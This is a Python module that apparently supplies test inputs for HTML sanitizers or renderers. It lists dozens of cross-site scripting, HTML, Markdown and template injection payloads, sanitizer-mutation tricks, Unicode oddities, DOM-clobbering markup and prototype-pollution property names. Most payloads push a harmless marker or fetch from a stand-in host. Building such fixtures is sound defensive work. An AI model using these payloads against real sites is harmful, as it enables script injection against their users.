"""Texts that do something where a page takes them for markup, for code, or for the name of a property.

Each reports to `window.ran`, opens a dialog, asks another host for something, or breaks what it is put into.
"""

from __future__ import annotations

_RUN = "(window.ran=window.ran||[]).push(1)"
_HOST = "http://elsewhere.test"
_LONG = 20_000

ELEMENTS: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_HOST}/pixel.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data={_HOST}/a.html></object>",
    f"<embed src={_HOST}/a.swf>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>open</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<link rel=stylesheet href={_HOST}/a.css>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<base href={_HOST}/>",
    f"<marquee onstart={_RUN}>moves</marquee>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<button popovertarget=x onclick={_RUN}>press</button><div popover id=x onbeforetoggle={_RUN}></div>",
    f"<video poster={_HOST}/poster.png></video>",
    f"<track src={_HOST}/words.vtt default onload={_RUN}>",
    f"<portal src={_HOST}></portal>",
    f"<frameset onload={_RUN}><frame src={_HOST}></frameset>",
    f"<applet code={_HOST}/a.class></applet>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<custom-element style=animation:x onanimationstart={_RUN}>",
    f"<input type=image src={_HOST}/button.png formaction=javascript:{_RUN}>",
    "<script>alert(1)</script>",
)
"""Elements and event attributes that run or load something by themselves."""

ATTRIBUTES: tuple[str, ...] = (
    f"<img srcset='{_HOST}/1.png 1x, {_HOST}/2.png 2x'>",
    f"<picture><source srcset={_HOST}/a.webp><img alt=a></picture>",
    f"<a ping={_HOST}/ping href=#>ping</a>",
    f"<form action={_HOST}><button formaction=javascript:{_RUN}>send</button></form>",
    f"<a href=javascript:{_RUN}>click</a>",
    f"<a href=' &#1; javascript:{_RUN}'>click</a>",
    f"<a href=java&#x09;script:{_RUN}>click</a>",
    f"<a href=JaVaScRiPt&colon;{_RUN}>click</a>",
    f"<a href='java\nscript:{_RUN}'>click</a>",
    f"<a href=vbscript:{_RUN}>click</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>data</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>data</a>",
    f"<a target=_blank rel=opener href={_HOST}>opener</a>",
    f"<iframe src='data:text/html,<script>parent.{_RUN}</script>'></iframe>",
    f'<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"/>\'>',
    f"<div style='background:url({_HOST}/a.png)'>styled</div>",
    f"<div style='width:expression({_RUN})'>styled</div>",
    f"<table background={_HOST}/b.png><td>cell</td></table>",
    f"<q cite=javascript:{_RUN}>cited</q>",
    f"<p contenteditable autofocus onfocus={_RUN}>edit</p>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    f"' onpointerenter='{_RUN}' x='",
    f"` onmouseover=`{_RUN}",
    f"x onfocus={_RUN} tabindex=0 autofocus",
    f"<img/src=x/onerror={_RUN}>",
    f"<img\x0csrc=x\x0conerror={_RUN}>",
    f"<IMG SRC=x ONERROR={_RUN}>",
    f"<img src=x onerror\n=\n{_RUN}>",
)
"""Attributes that hold addresses or styles, and breaks out of attributes."""

FOREIGN: tuple[str, ...] = (
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<math><mi xlink:href=javascript:{_RUN}>m</mi></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_RUN}></annotation-xml></math>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>click</text></a></svg>",
    f"<svg><use href='{_HOST}/a.svg#x'/></svg>",
    f"<svg><image href={_HOST}/a.png /></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><set attributeName=onmouseover to={_RUN} /></svg>",
    f"<svg><style>@import '{_HOST}/a.css';</style></svg>",
    f"<svg><title><![CDATA[</title><img src=x onerror={_RUN}>]]></svg>",
    f"<xml><x><![CDATA[<img src=x onerror={_RUN}>]]></x></xml>",
    f"<?xml-stylesheet href='{_HOST}/a.xsl'?><x/>",
)
"""MathML, SVG and islands of XML."""

MUTATIONS: tuple[str, ...] = (
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title></textarea><img src=x onerror={_RUN}>",
    f"--><img src=x onerror={_RUN}><!--",
    f"]]><script>{_RUN}</script>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
    f"<table><td><math><mi><table><mi><style></style><img src=x onerror={_RUN}></table></td>",
    f"<select><template><style></select><img src=x onerror={_RUN}></template>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<xmp></xmp><img src=x onerror={_RUN}>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<style>@import '{_HOST}/a.css';</style>",
    f"}} body {{ background: url({_HOST}/c.png) }} x {{",
    f"*/ @import url({_HOST}/d.css); /*",
)
"""What ends the element, the comment, the style or the script around it, or changes when it is read again."""

MARKDOWN: tuple[str, ...] = (
    f"[link](javascript:{_RUN})",
    f"![pixel]({_HOST}/pixel.png)",
    f"[by reference][r]\n\n[r]: javascript:{_RUN}",
    f"![by reference][i]\n\n[i]: {_HOST}/pixel.png",
    f"<javascript:{_RUN}>",
    f"[data](data:text/html,<script>{_RUN}</script>)",
    f"[titled]({_HOST} 'x\" onmouseover=\"{_RUN}')",
    f'![x](x"onerror="{_RUN})',
    f"```\n</code></pre><img src=x onerror={_RUN}>\n```",
    f"`</code><img src=x onerror={_RUN}>`",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    f"# <svg onload={_RUN}>",
    f"> <details open ontoggle={_RUN}>",
    f"- [ ] <input autofocus onfocus={_RUN}>",
)
"""Links, images, code, tables and lists for a Markdown view."""

TEMPLATES: tuple[str, ...] = (
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"#{{{_RUN}}}",
    f"{{%raw%}}<script>{_RUN}</script>{{%endraw%}}",
    f"'-{_RUN}-'",
    f"\\'-{_RUN}//",
    f"javascript:{_RUN}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    '"}],"type":"snapshot","rows":[{',
    "\\",
    "\u2028\u2029",
)
"""Templates, entities, escapes, and what breaks JSON."""

CHARACTERS: tuple[str, ...] = (
    f"\u202e<script>{_RUN}</script>",
    "\u2066left\u2069 \u2067right\u2069 \u202aof\u202c \u200f all",
    f"zero\u200bwidth\u200d\ufeff<scr\u200bipt>{_RUN}</scr\u200bipt>",
    f"bell\x07 back\x08 escape\x1b[31m <img src=x onerror={_RUN}>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    "Z\u0351\u036b\u0343\u0363a\u0321\u034a\u0348l\u034c\u0358g\u0335o" * 20,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u0627\u0644\u0639 \u65e5\u672c\u8a9e",
    "\ufffe\uffff\ufdd0",
    f"<img src=x onerror={_RUN}>" + "long " * (_LONG // 5),
    "w" * _LONG,
)
"""Both directions of writing, control and invisible characters, and too many of them."""

NAMES: tuple[str, ...] = (
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "length",
    "<a id=ragas_nb><a id=ragas_nb name=store>",
    "<form id=document><input name=body><input name=attributes>",
    "<img name=getElementById><img name=querySelector>",
)
"""Names that objects have already, and elements that take the place of names."""

PAYLOADS: tuple[str, ...] = (
    *ELEMENTS,
    *ATTRIBUTES,
    *FOREIGN,
    *MUTATIONS,
    *MARKDOWN,
    *TEMPLATES,
    *CHARACTERS,
    *NAMES,
)
